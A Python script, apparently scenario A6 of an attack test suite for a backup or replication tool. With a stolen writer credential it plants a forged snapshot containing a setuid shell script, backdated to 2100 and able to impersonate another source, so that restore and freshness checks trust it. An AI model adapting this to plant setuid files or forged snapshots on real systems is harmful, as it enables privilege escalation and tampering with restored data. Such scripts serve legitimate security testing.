"""A6: a snapshot with a setuid file, dated 2100: of the source of another host, or of the thief's own.

Holds: the stolen credential of a writer of the same domain, and put rights at one replica. Wants: the victim to restore
it as the newest of the source, and `status` to think that source fresh for 74 years.

Usage: a06_planted_commit.py REPLICA CREDENTIAL SOURCE_ID|own MOMENT [KEY=JSON ...]. Prints the name of the commit.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
import forge  # type: ignore[import-not-found]
from stolen import Thief  # type: ignore[import-not-found]

SETUID = 0o104755 & 0o7777


def main() -> None:
    """Plant a whole snapshot, which restores if it counts."""
    replica, credential, source_id, moment, *changes = sys.argv[1:]
    thief = Thief.at(credential, replica)
    more = {key: json.loads(value) for key, _, value in (one.partition("=") for one in changes)}
    if source_id != "own":
        more["source_id"] = source_id
    name = thief.snapshot({b"letter": b"#!/bin/sh\nid\n"}, moment, mode=SETUID, **more)
    for one, data in thief.made.items():
        forge.put(Path(replica), one, data)
    print(name)


if __name__ == "__main__":
    main()
